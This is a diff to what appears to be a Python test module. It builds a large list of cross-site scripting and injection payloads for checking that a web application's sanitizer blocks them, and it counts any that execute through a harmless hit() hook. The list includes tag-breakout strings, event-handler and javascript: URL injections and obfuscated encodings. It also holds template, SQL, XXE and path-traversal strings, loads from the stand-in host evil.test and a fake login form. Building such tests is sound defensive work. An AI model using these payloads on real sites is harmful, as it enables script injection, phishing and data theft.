@@ -93,7 +93,134 @@ _BASES = (
     "constructor __proto__ toString",
 )
 
-PAYLOADS: tuple[str, ...] = _BASES
+_OUT_OF = (
+    "",
+    '">',
+    "'>",
+    "`>",
+    '\\">',
+    "</bdi></span>",
+    "</q></li></ul>",
+    "</option></select>",
+    "</datalist>",
+    "</textarea>",
+    "</title>",
+    "</button>",
+    "</script>",
+    "</style>",
+    "</noscript>",
+    "</template>",
+    "</td></tr></table>",
+    "</svg>",
+    "-->",
+    "]]>",
+)
+"""What leaves the place that text stands in: an attribute, an element, a comment."""
+_INTO = (
+    "<img src=x{n} onerror=hit({n})>",
+    "<svg/onload=hit({n})>",
+    "<svg><set attributeName=onmouseover to=hit({n}) begin=0s></svg>",
+    "<svg><a xlink:href='javascript:hit({n})'><text y=20>{n}</text></a></svg>",
+    "<svg><foreignObject><body onload=hit({n})></foreignObject></svg>",
+    "<svg><image href=https://evil.test/{n}.svg /></svg>",
+    "<details open ontoggle=hit({n})><summary>{n}</summary></details>",
+    "<input autofocus onfocus=hit({n}) value={n}>",
+    "<button autofocus onfocus=hit({n})>{n}</button>",
+    "<div popover onbeforetoggle=hit({n}) id=p{n}></div><button popovertarget=p{n}>x</button>",
+    "<video autoplay onloadstart=hit({n})><source src=https://evil.test/{n}.mp4></video>",
+    "<audio controls onerror=hit({n}) src=https://evil.test/{n}.ogg></audio>",
+    "<iframe src='javascript:parent.hit({n})'></iframe>",
+    "<iframe srcdoc='&lt;script&gt;parent.hit({n})&lt;/script&gt;'></iframe>",
+    "<object type=image/svg+xml data=https://evil.test/{n}.svg></object>",
+    "<embed type=text/html src='javascript:hit({n})'>",
+    "<form action=https://evil.test/{n}><input name=q><button>Log in</button></form>",
+    "<button form=f{n} formaction='javascript:hit({n})'>Next</button>",
+    "<meta http-equiv=refresh content='0;url=https://evil.test/{n}'>",
+    "<base href=https://evil.test/{n}/>",
+    "<link rel=preload as=image href=https://evil.test/{n}.png>",
+    "<link rel=stylesheet href=//evil.test/{n}.css>",
+    "<style>@keyframes k{{}}*{{animation:k 1s;background:url(//evil.test/{n})}}</style>",
+    "<b style=animation-name:ws-in onanimationstart=hit({n})>{n}</b>",
+    "<a href='javascript:hit({n})' autofocus tabindex=0>{n}</a>",
+    "<a href=//evil.test/{n} ping=//evil.test/p{n}>the report</a>",
+    "<math><maction actiontype=statusline xlink:href=javascript:hit({n})>{n}</maction></math>",
+    "<script type=module>hit({n})</script>",
+    "<script src=https://evil.test/{n}.js></script>",
+    "<template shadowrootmode=open><img src=x onerror=hit({n})></template>",
+    "<dialog open onclose=hit({n})><form method=dialog><button>OK</button></form></dialog>",
+    "<x-{n} tabindex=0 autofocus onfocus=hit({n})>x</x-{n}>",
+    "<section data-act=remove-sure data-doc={n} onclick=hit({n})>Remove</section>",
+    "<div class=ws-confirm style='position:fixed;inset:0;z-index:99'>Sign in again {n}</div>",
+)
+"""What would then run, load, ask for a password or lie over the page."""
+_DISGUISED = (
+    "&lt;img src=x onerror=hit({n})&gt;",
+    "&#x3c;img src=x onerror=hit({n})&#x3e;",
+    "&amp;lt;svg onload=hit({n})&amp;gt;",
+    "%3Csvg%2Fonload%3Dhit({n})%3E",
+    "\\x3csvg onload=hit({n})\\x3e",
+    "\uff1cimg src=x onerror=hit({n})\uff1e",
+    "\u02c2script\u02c3hit({n})\u02c2/script\u02c3",
+    "<\u200bscript>hit({n})</\u200bscript>",
+    "<ſcript>hit({n})</ſcript>",
+    "<IMG SRC=X\tONERROR\t=\thit({n})>",
+    "<img\x0csrc=x\x0conerror=hit({n})>",
+    "<img src=x onerror\u2028=hit({n})>",
+    "<svg\u00a0onload=hit({n})>",
+    "<scr<script>ipt>hit({n})</scr</script>ipt>",
+    "java\tscript:hit({n})",
+    "JaVaScRiPt&colon;hit({n})",
+    "vbscript:hit({n})",
+    "[open](java\nscript:hit({n}))",
+    "[![x](//evil.test/{n}.png)](//evil.test/{n})",
+    "![x](data:image/svg+xml,<svg onload=hit({n})>)",
+    "<!--[if gte IE 4]><script>hit({n})</script><![endif]-->",
+    "<?xml-stylesheet href='javascript:hit({n})'?>",
+    "<!DOCTYPE x [<!ENTITY e SYSTEM 'https://evil.test/{n}'>]>&e;",
+    "{{{{7*7}}}}{{{{hit({n})}}}}",
+    "${{{{hit({n})}}}} #{{hit({n})}} @(hit({n}))",
+    "{{% for x in ().__class__.__base__.__subclasses__() %}}{n}",
+    "\u202etxt.{n}gpj\u202c <b onclick=hit({n})>",
+    "\u2066<i onmouseover=hit({n})>\u2069",
+    "\U0001f600" * 40 + "<b onclick=hit({n})>{n}</b>",
+    "A" * 400 + "<img src=x onerror=hit({n})>",
+    "'; DROP TABLE claims; -- <b>{n}</b>",
+    '" OR ""="" NEAR(x, {n}) <b>',
+    "../../../../etc/passwd\u2215{n}<b>",
+    "con\u0301 aux nul {n} <b>",
+    "#;background:url(//evil.test/{n})",
+    "#fff;}}*{{display:none}}/*{n}",
+    'red"onclick="hit({n})',
+    "url(javascript:hit({n}))",
+    "expression(hit({n}))",
+    "\\3c img src=x onerror=hit({n})\\3e",
+    "<plaintext>{n}",
+    "<xmp><img src=x onerror=hit({n})></xmp>",
+    "<listing>{n}</listing><!--",
+    "<frameset onload=hit({n})><frame src=//evil.test/{n}></frameset>",
+    "<applet code=x{n} onerror=hit({n})></applet>",
+    "<bgsound src=//evil.test/{n}.wav>",
+    "<portal src=//evil.test/{n} onload=hit({n})>",
+    "<isindex action=javascript:hit({n}) type=image>",
+    "<keygen autofocus onfocus=hit({n})>",
+    "<image src=x onerror=hit({n})>",
+)
+"""The same in disguise, and what other readers than a browser would run."""
+
+
+def _made() -> tuple[str, ...]:
+    """Every way in out of a few places each, so that each pair of neighbours is met."""
+    steps = [
+        out + into.format(n=1000 + 20 * i + j)
+        for i, into in enumerate(_INTO)
+        for j, out in enumerate(_OUT_OF)
+        if (i + j) % 3 == 0
+    ]
+    disguised = [d.format(n=2000 + i) for i, d in enumerate(_DISGUISED)]
+    return tuple(dict.fromkeys((*_BASES, *steps, *disguised)))
+
+
+PAYLOADS: tuple[str, ...] = _made()
 
 WATCH = "window.hits = 0; window.hit = () => { window.hits += 1; }; window.alert = window.hit;"
 """Runs before the page: counts what payloads call."""
